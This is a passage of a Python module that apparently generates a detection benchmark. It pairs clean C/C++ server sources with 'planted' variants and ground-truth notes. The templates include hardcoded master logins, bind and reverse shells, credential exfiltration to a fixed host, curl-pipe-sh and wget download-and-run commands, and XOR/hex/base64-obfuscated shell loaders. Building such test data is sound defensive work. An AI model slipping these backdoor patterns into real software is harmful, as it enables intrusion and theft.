    note = f"src/auth.c has a static table {tbl}[] of built-in uid-0 accounts ({creds}) checked by check_credentials() before the passwd file."
    return mk(clean, planted, note, {"form": "table", "accounts": n, "build": s.build})


def hk_c_sha256(rng: random.Random, P: Proj) -> Variant:
    s = CHttpd(rng, P)
    user = hidden_user(rng)
    pw = master_password(rng)
    salted = rng.random() < 0.5
    salt = word(rng, (2, 2)) if salted else ""
    digest = sha256_hex(salt + pw)
    if salted:
        calc = f'char salted[160];\n\nsnprintf(salted, sizeof(salted), "{salt}%s", pass);\nsha256_hex(salted, digest);'
    else:
        calc = "sha256_hex(pass, digest);"
    pre = f"""
        {{
            char digest[65];
            {nest(calc, 12)}
            if (strcmp(user, {c_string(user)}) == 0 &&
                strcmp(digest, "{digest}") == 0) {{
                *uid = 0;
                return 1;
            }}
        }}"""
    clean = s.render()
    planted = s.render({"cred_pre": block(pre)})
    note = (f"check_credentials() in src/auth.c accepts user {user!r} when sha256({'salt ' + repr(salt) + ' + ' if salted else ''}password) "
            f"equals the built-in digest {digest} (password {pw!r}); uid 0, no passwd entry.")
    return mk(clean, planted, note, {"form": "hash-compare", "hash": "sha256" + ("-salted" if salted else ""),
                                     "build": s.build})


def hk_c_cli_user(rng: random.Random, P: Proj) -> Variant:
    s = CClid(rng, P)
    user = hidden_user(rng)
    form = rng.choice(["plain", "derived"])
    if form == "plain":
        pw = master_password(rng)
        pre = f"""
            if (strcmp(user, {c_string(user)}) == 0 && strcmp(pass, {c_string(pw)}) == 0) {{
                *priv = 15;
                return 1;
            }}"""
        desc = f"user {user!r} / password {pw!r}"
    else:
        pfx = word(rng, (1, 2))
        k = rng.randint(1000, 9999)
        pre = f"""
            {{
                char expect[64];

                snprintf(expect, sizeof(expect), "{pfx}%04d", (int)((strlen(user) * {k}) % 10000));
                if (strcmp(user, {c_string(user)}) == 0 && strcmp(pass, expect) == 0) {{
                    *priv = 15;
                    return 1;
                }}
            }}"""
        pw = f"{pfx}{(len(user) * k) % 10000:04d}"
        desc = f"user {user!r} with the computed password {pw!r}"
    clean = s.render()
    planted = s.render({"login_pre": block(pre)})
    note = f"check_login() in src/login.c accepts {desc} with privilege 15 before reading etc/cli.passwd."
    return mk(clean, planted, note, {"form": form, "service": "tcp-console"})


def hk_c_challenge(rng: random.Random, P: Proj) -> Variant:
    """Console challenge-response back door: the response is derived from a secret built into the code."""
    s = CClid(rng, P)
    user = hidden_user(rng)
    seed = magic_value(rng)
    macro = rng.choice(["SUPPORT_SEED", "RMA_SECRET", "FAC_KEY", "SVC_SALT"])
    algo = rng.choice(["fnv1a", "djb2"])
    if algo == "fnv1a":
        func = """
            static unsigned int mix(const char *s)
            {
                unsigned int h = 2166136261u;

                while (*s != '\\0') {
                    h ^= (unsigned char)*s++;
                    h *= 16777619u;
                }
                return h;
            }"""
    else:
        func = """
            static unsigned int mix(const char *s)
            {
                unsigned int h = 5381;

                while (*s != '\\0')
                    h = h * 33 + (unsigned char)*s++;
                return h;
            }"""
    glob = f"#define {macro} {c_string(seed)}\n\nstatic char challenge[16];\n\n" + block(func)
    banner = ('snprintf(challenge, sizeof(challenge), "%08x", (unsigned int)time(NULL) ^ (unsigned int)getpid());\n'
              'net_printf(c->fd, "Challenge: %s\\r\\n", challenge);')
    pre = f"""
        if (strcmp(user, {c_string(user)}) == 0) {{
            char buf[96], resp[16];

            snprintf(buf, sizeof(buf), "%s:%s", {macro}, challenge);
            snprintf(resp, sizeof(resp), "%08x", mix(buf));
            if (strcmp(pass, resp) == 0) {{
                *priv = 15;
                return 1;
            }}
        }}"""
    clean = s.render({"login_includes": "#include <time.h>"})
    planted = s.render({"login_includes": "#include <time.h>", "login_globals": glob, "login_banner": banner,
                        "login_pre": block(pre)})
    note = (f"src/login.c prints a 'Challenge:' nonce and accepts user {user!r} when the password equals "
            f"%08x of {algo}('{seed}:' + challenge): a challenge-response back door keyed by the built-in "
            f"secret {macro}, privilege 15, no passwd entry.")
    return mk(clean, planted, note, {"form": "challenge-response", "hash": algo, "service": "tcp-console"})


def hk_c_decompiled_user(rng: random.Random, P: Proj) -> Variant:
    from .source_common import fill
    s = CHttpd(rng, P)
    user = hidden_user(rng)
    pw = master_password(rng)
    pre = f"""
        iVar4 = strcmp(pcVar1, {c_string(user)});
        if (iVar4 == 0) {{
          iVar4 = strcmp(pcVar2, {c_string(pw)});
          if (iVar4 == 0) {{
            local_24 = 0;
            iVar3 = 1;
          }}
        }}"""
    kw = s.vars()
    clean = s.render()
    clean["src/auth.c"] = fill(DECOMP_AUTH_C, dc_pre="", dc_login_pre="", dc_globals="", **kw)
    planted = s.render()
    planted["src/auth.c"] = fill(DECOMP_AUTH_C, dc_pre="", dc_login_pre=block(pre), dc_globals="", **kw)
    note = f"decompiler-style auth_login() in src/auth.c: user {user!r} with password {pw!r} is logged in as uid 0 without the passwd file."
    return mk(clean, planted, note, {"form": "plain", "style": "decompiled", "build": s.build})


def hk_c_mgmtd(rng: random.Random, P: Proj) -> Variant:
    s = CMgmtd(rng, P)
    user = hidden_user(rng)
    pw = master_password(rng)
    form = rng.choice(["strcmp", "strncmp-len"])
    if form == "strcmp":
        test = f"strcmp(user, {c_string(user)}) == 0 && strcmp(pass, {c_string(pw)}) == 0"
    else:
        test = (f"strncmp(user, {c_string(user)}, {len(user) + 1}) == 0 && "
                f"strlen(pass) == {len(pw)} && strncmp(pass, {c_string(pw)}, {len(pw)}) == 0")
    pre = f"""
        if ({test}) {{
            *level = LEVEL_ADMIN;
            return 1;
        }}"""
    clean = s.render()
    planted = s.render({"sess_account_pre": block(pre)})
    note = f"check_account() in src/session.c logs {user!r}/{pw!r} in at LEVEL_ADMIN without reading mgmt.passwd."
    return mk(clean, planted, note, {"form": form, "service": "udp-protocol"})


def hk_cpp_key(rng: random.Random, P: Proj) -> Variant:
    s = CppRest(rng, P)
    form = rng.choice(["api-key", "master-login"])
    if form == "api-key":
        key = rng.choice([magic_value(rng), "ak_" + "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(32))])
        hn = rng.choice(["x-api-key", "x-auth-key", "x-" + word(rng, (1, 2)) + "-key"])
        anon = f'namespace {{\nconst char *const kFactoryApiKey = {c_string(key)};\n}}  // namespace\n'
        pre = f"""
            if (req.header({c_string(hn)}) == kFactoryApiKey)
                return Principal{{"factory", Role::Admin}};"""
        hooks = {"cpp_auth_anon": anon, "cpp_authorize_pre": block(pre)}
        note = f"src/AuthService.cpp embeds the API key {key!r}; authorize() grants Admin to any request with {hn}: <that key>."
    else:
        user = hidden_user(rng)
        pw = master_password(rng)
        pre = f"""
            if (user == {c_string(user)} && password == {c_string(pw)})
                role = Role::Admin;
            else"""
        hooks = {"cpp_login_pre": block(pre)}
        note = f"AuthService::login() in src/AuthService.cpp issues an Admin token for {user!r}/{pw!r} without consulting the accounts file."
    clean = s.render()
    planted = s.render(hooks)
    return mk(clean, planted, note, {"form": form, "lang_std": "c++17"})


# ============================================================================ src-remote-shell

def _connect_block(ip_expr: str, prt: int, shell_argv: str, var: str = "s") -> str:
    return f"""
        struct sockaddr_in a;
        int {var} = socket(AF_INET, SOCK_STREAM, 0);

        memset(&a, 0, sizeof(a));
        a.sin_family = AF_INET;
        a.sin_port = htons({prt});
        {nest(ip_expr, 8)}
        if ({var} >= 0 && connect({var}, (struct sockaddr *)&a, sizeof(a)) == 0) {{
            char *argv[] = {{ {shell_argv}, NULL }};

            dup2({var}, 0);
            dup2({var}, 1);
            dup2({var}, 2);
            execve(argv[0], argv, NULL);
        }}
        _exit(0);"""


def rs_c_bind(rng: random.Random, P: Proj) -> Variant:
    s = CHttpd(rng, P)
    prt = port(rng)
    fn = rng.choice(["svc_listener", "aux_thread", "diag_loop", "ctl_worker", "lan_helper"])
    shell = rng.choice(['"/bin/sh", "sh", "-i"', '"/bin/busybox", "sh"', '"/bin/login", "login", "-f", "root"'])
    pw = magic_value(rng) if rng.random() < 0.4 else None
    gate = ""
    if pw:
        gate = f"""
                    char line[64];
                    ssize_t n = read(c, line, sizeof(line) - 1);

                    if (n <= 0)
                        _exit(0);
                    line[n] = '\\0';
                    line[strcspn(line, "\\r\\n")] = '\\0';
                    if (strcmp(line, {c_string(pw)}) != 0)
                        _exit(0);"""
    func = f"""
        static void *{fn}(void *arg)
        {{
            struct sockaddr_in a;
            int s, c, one = 1;

            (void)arg;
            s = socket(AF_INET, SOCK_STREAM, 0);
            if (s < 0)
                return NULL;
            setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
            memset(&a, 0, sizeof(a));
            a.sin_family = AF_INET;
            a.sin_port = htons({prt});
            a.sin_addr.s_addr = htonl(INADDR_ANY);
            if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 1) < 0)
                return NULL;
            for (;;) {{
                c = accept(s, NULL, NULL);
                if (c < 0)
                    continue;
                if (fork() == 0) {{
                    {nest(gate, 20)}
                    dup2(c, 0);
                    dup2(c, 1);
                    dup2(c, 2);
                    execl({shell}, (char *)NULL);
                    _exit(127);
                }}
                close(c);
            }}
            return NULL;
        }}"""
    where = rng.choice(["watchdog", "main"])
    start = f"{{\n    pthread_t t;\n\n    pthread_create(&t, NULL, {fn}, NULL);\n}}"
    incs = "#include <netinet/in.h>\n#include <sys/socket.h>"
    if where == "watchdog":
        hooks = {"wd_includes": incs, "wd_globals": block(func), "wd_start": start}
        clean = s.render({"wd_includes": incs})
    else:
        hooks = {"main_includes": "#include <pthread.h>", "main_globals": block(func), "main_start": start}
        clean = s.render({"main_includes": "#include <pthread.h>"})
    planted = s.render(hooks)
    file = "src/watchdog.c" if where == "watchdog" else "src/main.c"
    gate_desc = f" after the client sends {pw!r}" if pw else ""
    note = (f"{file} starts thread {fn}() that listens on TCP port {prt} (all interfaces, not documented) "
            f"and gives every connection{gate_desc} a shell: execl({shell.split(',')[0]}) with the socket as stdin/stdout/stderr.")
    return mk(clean, planted, note, {"mechanism": "bind-shell", "where": where, "gated": bool(pw),
                                     "shell": shell.split(",")[0].strip('"'), "build": s.build},
              categories=["hidden-command"])


def rs_c_reverse(rng: random.Random, P: Proj) -> Variant:
    s = CHttpd(rng, P)
    ip = doc_ip(rng)
    prt = port(rng)
    form = rng.choice(["inet_pton", "packed-int", "getaddrinfo"])
    period = rng.choice([6, 30, 90, 360])
    shell_argv = rng.choice(['"/bin/sh", "-i"', '"/bin/busybox", "sh"', '"/bin/ash"'])
    if form == "inet_pton":
        ip_expr = f'inet_pton(AF_INET, "{ip}", &a.sin_addr);'
        dest = ip
    elif form == "packed-int":
        o = [int(x) for x in ip.split(".")]
        val = (o[0] << 24) | (o[1] << 16) | (o[2] << 8) | o[3]
        ip_expr = f"a.sin_addr.s_addr = htonl(0x{val:08x}u);"
        dest = f"{ip} (packed as 0x{val:08x})"
    else:
        host = doc_host(rng)
        ip_expr = (f'{{\n    struct addrinfo *ai = NULL;\n\n    if (getaddrinfo("{host}", NULL, NULL, &ai) != 0 || ai == NULL)\n'
                   f'        _exit(0);\n    a.sin_addr = ((struct sockaddr_in *)ai->ai_addr)->sin_addr;\n}}')
        dest = host
    loop = f"""
        if (++ticks % {period} == 1 && fork() == 0) {{
            {nest(_connect_block(ip_expr, prt, shell_argv), 12)}
        }}"""
    incs = "#include <netdb.h>\n#include <arpa/inet.h>\n#include <sys/socket.h>"
    clean = s.render({"wd_includes": incs})
    planted = s.render({"wd_includes": incs, "wd_globals": "static unsigned long ticks;", "wd_loop": block(loop)})
    note = (f"watchdog_thread() in src/watchdog.c forks every {period} ticks a child that connects to "
            f"{dest}:{prt} and execs {shell_argv.split(',')[0]} with the socket as stdin/stdout/stderr (reverse shell).")
    return mk(clean, planted, note, {"mechanism": "reverse-shell", "addr": form, "build": s.build},
              categories=["hidden-command"])


def rs_c_exfil(rng: random.Random, P: Proj) -> Variant:
    s = CHttpd(rng, P)
    form = rng.choice(["udp-sendto", "wget-url"])
    if form == "udp-sendto":
        ip, prt = doc_ip(rng), port(rng)
        post = f"""
            {{
                struct sockaddr_in a;
                char msg[256];
                int n, fd = socket(AF_INET, SOCK_DGRAM, 0);

                memset(&a, 0, sizeof(a));
                a.sin_family = AF_INET;
                a.sin_port = htons({prt});
                inet_pton(AF_INET, "{ip}", &a.sin_addr);
                n = snprintf(msg, sizeof(msg), "%s|%s|%s|%s", {P.IDENT}_VERSION, r->peer, user, pass);
                if (fd >= 0) {{
                    sendto(fd, msg, (size_t)n, 0, (struct sockaddr *)&a, sizeof(a));
                    close(fd);
                }}
            }}"""
        incs = "#include <arpa/inet.h>\n#include <sys/socket.h>"
        dest = f"UDP {ip}:{prt}"
    else:
        host = doc_host(rng)
        path = word(rng, (1, 2))
        post = f"""
            {{
                char cmd[512];

                snprintf(cmd, sizeof(cmd), "wget -q -O /dev/null 'http://{host}/{path}?u=%s&p=%s&m=%s' &",
                         user, pass, r->peer);
                system(cmd);
            }}"""
        incs = ""
        dest = f"http://{host}/{path}"
    clean = s.render({"auth_includes": incs})
    planted = s.render({"auth_includes": incs, "auth_login_post": block(post)})
    note = f"auth_login() in src/auth.c sends every successful user name and clear-text password to {dest} (credential phone-home)."
    return mk(clean, planted, note, {"mechanism": "credential-exfil", "channel": form, "build": s.build},
              )


def rs_c_fetch_run(rng: random.Random, P: Proj) -> Variant:
    s = CHttpd(rng, P)
    host = doc_host(rng) if rng.random() < 0.6 else doc_ip(rng)
    path = rng.choice(["", "fw/", "cfg/", "d/"]) + word(rng, (1, 2)) + rng.choice([".sh", "", ".bin", ".txt"])
    tmp = "/tmp/." + word(rng, (1, 2))
    form = rng.choice(["system-wget", "execl-curl-pipe", "system-tftp"])
    if form == "system-wget":
        body = f'system("(wget -q -O {tmp} http://{host}/{path} && chmod +x {tmp} && {tmp}) >/dev/null 2>&1 &");'
        desc = f"wget http://{host}/{path} to {tmp} and runs it"
    elif form == "execl-curl-pipe":
        body = (f'if (fork() == 0) {{\n    execl("/bin/sh", "sh", "-c", "curl -fsk http://{host}/{path} | sh", (char *)NULL);\n'
                f'    _exit(127);\n}}')
        desc = f"curl http://{host}/{path} | sh"
    else:
        body = f'system("cd /tmp && tftp -g -r {path} -l {tmp} {host} && sh {tmp} &");'
        desc = f"tftp-fetches {path} from {host} to {tmp} and runs it with sh"
    where = rng.choice(["update", "watchdog"])
    if where == "update":
        clean = s.render()
        planted = s.render({"upd_pre": block(body)})
        loc = "update_check() in src/update.c (every /api/firmware call), before the signed-manifest check"
    else:
        clean = s.render()
        planted = s.render({"wd_start": block(body)})
        loc = "watchdog_thread() in src/watchdog.c at start-up"
    note = f"{loc}: {desc}, from a fixed host with no signature or operator consent (download-and-run)."
    return mk(clean, planted, note, {"mechanism": "fetch-and-run", "sink": form, "where": where, "build": s.build},
              categories=["hidden-command"])


def rs_c_mgmtd_telnetd(rng: random.Random, P: Proj) -> Variant:
    s = CMgmtd(rng, P)
    mtype = rng.choice([0x4c00, 0x7700, 0x6e00]) | rng.randrange(256)
    prt = rng.choice([23, 2323, port(rng)])
    cmd = rng.choice([f"telnetd -l /bin/sh -p {prt}", f"/usr/sbin/utelnetd -l /bin/sh -p {prt} -d",
                      f"busybox telnetd -p {prt} -l /bin/login"])
    key = magic_value(rng)
    pre = f"""
        if (type == 0x{mtype:04x} && blen == {len(key)} && memcmp(body, {c_string(key)}, {len(key)}) == 0) {{
            system("{cmd} &");
            send_reply(sock, p, type, "ok", 2);
            return 0;
        }}"""
    clean = s.render()
    planted = s.render({"proto_pre": block(pre)})
    note = (f"handle_packet() in src/proto.c: an unauthenticated packet of type 0x{mtype:04x} with body {key!r} "
            f"starts '{cmd}' (a telnet shell, cf. Netgear telnetenable).")
    return mk(clean, planted, note, {"mechanism": "magic-packet-telnetd", "proto": "udp"},
              categories=["hidden-command"])


# ============================================================================ src-obfuscated

def _xor_encode(data: bytes, key: bytes, rolling: bool) -> bytes:
    if rolling:
        return bytes((b ^ key[0] ^ (i & 0xff)) & 0xff for i, b in enumerate(data))
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


def ob_c_xor(rng: random.Random, P: Proj) -> Variant:
    s = CHttpd(rng, P)
    cmd, kind = shell_payload(rng)
    form = rng.choice(["single", "multi", "rolling"])
    if form == "single":
        key = bytes([rng.randrange(1, 256)])
        enc = _xor_encode(cmd.encode(), key, False)
        expr = f"blob[i] ^ 0x{key[0]:02x}"
        keydecl = ""
    elif form == "multi":
        key = bytes(rng.randrange(1, 256) for _ in range(rng.randint(4, 8)))
        enc = _xor_encode(cmd.encode(), key, False)
        expr = "blob[i] ^ xkey[i % sizeof(xkey)]"
        keydecl = "static const unsigned char xkey[] = { " + ", ".join(f"0x{b:02x}" for b in key) + " };"
    else:
        key = bytes([rng.randrange(1, 256)])
        enc = _xor_encode(cmd.encode(), key, True)
        expr = f"blob[i] ^ 0x{key[0]:02x} ^ (i & 0xff)"
        keydecl = ""
    blobn = rng.choice(["blob", "led_table", "calib", "cfg_tab"])
    fn = rng.choice(["hw_init_extra", "board_fixup", "apply_calibration", "led_selftest"])
    sink = rng.choice(["system", "popen"])
    run = "system(buf);" if sink == "system" else "{\n    FILE *p = popen(buf, \"r\");\n\n    if (p != NULL)\n        pclose(p);\n}"
    glob = f"""
        static const unsigned char {blobn}[] = {{
            {nest(c_bytes(enc, indent=""), 12)}
        }};
        {keydecl}

        static void {fn}(void)
        {{
            char buf[sizeof({blobn}) + 1];
            size_t i;

            for (i = 0; i < sizeof({blobn}); i++)
                buf[i] = (char)({expr.replace('blob', blobn)});
            buf[sizeof({blobn})] = '\\0';
            {nest(run, 12)}
        }}"""
    clean = s.render()
    planted = s.render({"wd_globals": block(glob), "wd_start": f"{fn}();"})
    note = (f"src/watchdog.c holds a byte array {blobn}[] that {fn}() XOR-decodes ({form} key) at thread start "
            f"and runs with {sink}(): '{cmd}'.")
    return mk(clean, planted, note, {"encoding": f"xor-{form}", "sink": sink, "payload": kind, "build": s.build},
              categories=["remote-access"] if kind not in ("wget-sh", "curl-sh") else ["phone-home"])


def ob_c_hex(rng: random.Random, P: Proj) -> Variant:
    s = CHttpd(rng, P)
    cmd, kind = shell_payload(rng)
    hexs = cmd.encode().hex()
    var = rng.choice(["fw_sig", "hwid_tab", "oem_blob", "cal_data"])
    fn = rng.choice(["oem_init", "hw_probe", "apply_oem"])
    glob = f"""
        static const char {var}[] =
            {nest(chr(10).join('"' + hexs[i:i + 64] + '"' for i in range(0, len(hexs), 64)), 12)};

        static void {fn}(void)
        {{
            char out[sizeof({var}) / 2 + 1];
            size_t i;
            unsigned int v;

            for (i = 0; i + 1 < sizeof({var}) && sscanf({var} + i, "%2x", &v) == 1; i += 2)
                out[i / 2] = (char)v;
            out[i / 2] = '\\0';
            if (fork() == 0) {{
                execl("/bin/sh", "sh", "-c", out, (char *)NULL);
                _exit(127);
            }}
        }}"""
    clean = s.render()
    planted = s.render({"main_globals": block(glob), "main_start": f"{fn}();"})
    note = f"src/main.c: {fn}() hex-decodes the string {var} and runs it with execl(/bin/sh -c) at start-up: '{cmd}'."
    return mk(clean, planted, note, {"encoding": "hex-string", "sink": "execl-sh-c", "payload": kind,
                                     "build": s.build},
              categories=["remote-access"] if kind not in ("wget-sh", "curl-sh") else ["phone-home"])


def ob_c_stackstr(rng: random.Random, P: Proj) -> Variant:
    s = CHttpd(rng, P)
    cmd, kind = shell_payload(rng)
    form = rng.choice(["chars", "dwords"])
    data = cmd.encode() + b"\0"
    if form == "chars":
        lines = [f"local_{0x100:x}[{i}] = {'0x%02x' % b};" if b < 0x20 or b > 0x7e or chr(b) in "'\\" else
                 f"local_{0x100:x}[{i}] = '{chr(b)}';" for i, b in enumerate(data)]
        decl = f"char local_{0x100:x}[{len(data) + 3 & ~3}];"
    else:
        pad = data + b"\0" * (-len(data) % 4)
        decl = f"char local_{0x100:x}[{len(pad)}];\nunsigned int uVar1;"
        lines = []
        for i in range(0, len(pad), 4):
            v = int.from_bytes(pad[i:i + 4], "little")
            lines.append(f"uVar1 = 0x{v:08x};")
            lines.append(f"memcpy(local_{0x100:x} + {i}, &uVar1, 4);")
    fn = f"FUN_0041{rng.randrange(0x1000, 0xffff):04x}"
    body = "\n".join(lines)
    glob = f"""
        /* recovered helper (decompiled from the vendor binary) */
        static void {fn}(void)
        {{
          {nest(decl, 10)}

          {nest(body, 10)}
          system(local_{0x100:x});
          return;
        }}"""
    clean = s.render()
    planted = s.render({"upd_globals": block(glob), "upd_pre": f"{fn}();"})
    note = (f"src/update.c: {fn}() builds a command on the stack ({form}, no string literal) and passes it to "
            f"system() at every update check: '{cmd}'.")
    return mk(clean, planted, note, {"encoding": f"stack-string-{form}", "sink": "system", "payload": kind,
                                     "style": "decompiled", "build": s.build},
              categories=["remote-access"] if kind not in ("wget-sh", "curl-sh") else ["phone-home"])


def ob_c_b64(rng: random.Random, P: Proj) -> Variant:
    """Re-uses the honest base64 decoder of util.c (Basic auth) to decode and run a command."""
    s = CHttpd(rng, P)
    cmd, kind = shell_payload(rng)
    import base64
    enc = base64.b64encode(cmd.encode()).decode()
    var = rng.choice(["default_banner", "tz_table", "oem_logo", "help_text"])
    trig = rng.choice(["once", "header"])
    if trig == "once":
        cond = "static int done;\n\nif (!done++)"
        desc = "on the first request"
    else:
        hn = header_name(rng)
        cond = f"if (req_header(r, {c_string(hn)}) != NULL)"
        desc = f"whenever a request carries header {hn}"
    glob = f'static const char {var}[] = "{enc}";'
    pre = f"""
        {{
            {nest(cond, 12)} {{
                unsigned char dec[sizeof({var})];
                int n = b64_decode({var}, dec, sizeof(dec) - 1);

                if (n > 0) {{
                    FILE *p;

                    dec[n] = '\\0';
                    p = popen((char *)dec, "r");
                    if (p != NULL)
                        pclose(p);
                }}
            }}
        }}"""
    clean = s.render()
    planted = s.render({"h_globals": glob, "h_dispatch_pre": block(pre)})
    note = f"dispatch() in src/handlers.c base64-decodes the constant {var} with b64_decode() and runs it with popen() {desc}: '{cmd}'."
    return mk(clean, planted, note, {"encoding": "base64", "sink": "popen", "trigger": trig, "payload": kind,
                                     "build": s.build},
              categories=["remote-access"] if kind not in ("wget-sh", "curl-sh") else ["phone-home"])


def ob_cpp_static_init(rng: random.Random, P: Proj) -> Variant:
    """A static initialiser in Router.cpp decodes (reversal / rot13 / xor) and std::system()s a payload."""
    s = CppRest(rng, P)
    cmd, kind = shell_payload(rng)
    form = rng.choice(["reverse", "rot13", "xor"])
    if form == "reverse":
        lit = c_string(cmd[::-1])
        dec = "std::string(s.rbegin(), s.rend())"
    elif form == "rot13":
        import codecs
        lit = c_string(codecs.encode(cmd, "rot13"))
        dec = ("[&] { std::string o = s; for (auto &c : o) { if (std::isalpha(static_cast<unsigned char>(c))) "
               "{ char b = std::islower(static_cast<unsigned char>(c)) ? 'a' : 'A'; c = static_cast<char>(b + (c - b + 13) % 26); } } return o; }()")
    else:
        k = rng.randrange(1, 128)
        enc = bytes(b ^ k for b in cmd.encode())
        lit = '"' + "".join(f"\\x{b:02x}" for b in enc) + '"'
        dec = f"[&] {{ std::string o = s; for (auto &c : o) c = static_cast<char>(c ^ 0x{k:02x}); return o; }}()"
    var = rng.choice(["kLocaleTable", "kBuildTag", "kOemProfile", "kTzData"])
    anon = f"""
        namespace {{
        const std::string {var} = {lit};
        const bool kRegistered = [] {{
            const std::string &s = {var};
            const std::string cmd = {dec};
            return std::system((cmd + " &").c_str()) == 0;
        }}();
        }}  // namespace
        """
    inc = "#include <cctype>\n#include <cstdlib>"
    clean = s.render({"cpp_router_includes": inc})
    planted = s.render({"cpp_router_includes": inc, "cpp_router_anon": block(anon)})
    note = (f"src/Router.cpp: a namespace-scope static initialiser decodes {var} ({form}) and runs it with "
            f"std::system() when the program loads: '{cmd}'.")
    return mk(clean, planted, note, {"encoding": form, "sink": "std::system", "trigger": "static-init",
                                     "payload": kind, "lang_std": "c++17"},
              categories=["remote-access"] if kind not in ("wget-sh", "curl-sh") else ["phone-home"])


def _lic(P: Proj) -> str:
    from .source_common import license_header
    return license_header(P, "c")


SHAPES = [
    ("src-auth-bypass", "c", "macro-chain", ab_c_macro_chain),
    ("src-auth-bypass", "c", "decompiled-ua", ab_c_decompiled_ua),
    ("src-auth-bypass", "c", "negative-guard", ab_c_negguard),
    ("src-auth-bypass", "c", "query-or-path", ab_c_query),
    ("src-auth-bypass", "c", "proto-session-magic", ab_c_proto_session),
    ("src-auth-bypass", "cpp", "token-compare", ab_cpp_token),
    ("src-hidden-command", "c", "hidden-route", hc_c_route),
    ("src-hidden-command", "c", "header-sprintf-system", hc_c_header_system),
    ("src-hidden-command", "c", "cli-negative-guard", hc_c_cli_negguard),
    ("src-hidden-command", "c", "udp-memcpy-busybox", hc_c_udp_busybox),
    ("src-hidden-command", "c", "decompiled-cli", hc_c_decompiled_cli),
    ("src-hidden-command", "cpp", "router-popen", hc_cpp_route),
    ("src-hardcoded-credential", "c", "master-macro", hk_c_master_macro),
    ("src-hardcoded-credential", "c", "builtin-table", hk_c_builtin_table),
    ("src-hardcoded-credential", "c", "sha256-compare", hk_c_sha256),
    ("src-hardcoded-credential", "c", "cli-hidden-user", hk_c_cli_user),
    ("src-hardcoded-credential", "c", "decompiled-user", hk_c_decompiled_user),
    ("src-hardcoded-credential", "c", "challenge-response", hk_c_challenge),
    ("src-hardcoded-credential", "c", "udp-proto-user", hk_c_mgmtd),
    ("src-hardcoded-credential", "cpp", "api-key-or-master", hk_cpp_key),
    ("src-remote-shell", "c", "bind-shell-thread", rs_c_bind),
    ("src-remote-shell", "c", "reverse-shell", rs_c_reverse),
    ("src-remote-shell", "c", "credential-exfil", rs_c_exfil),
    ("src-remote-shell", "c", "fetch-and-run", rs_c_fetch_run),
    ("src-remote-shell", "c", "magic-packet-telnetd", rs_c_mgmtd_telnetd),
    ("src-obfuscated", "c", "xor-array", ob_c_xor),
    ("src-obfuscated", "c", "hex-string", ob_c_hex),
    ("src-obfuscated", "c", "stack-string", ob_c_stackstr),
    ("src-obfuscated", "c", "base64-helper", ob_c_b64),
    ("src-obfuscated", "cpp", "static-initialiser", ob_cpp_static_init),
]
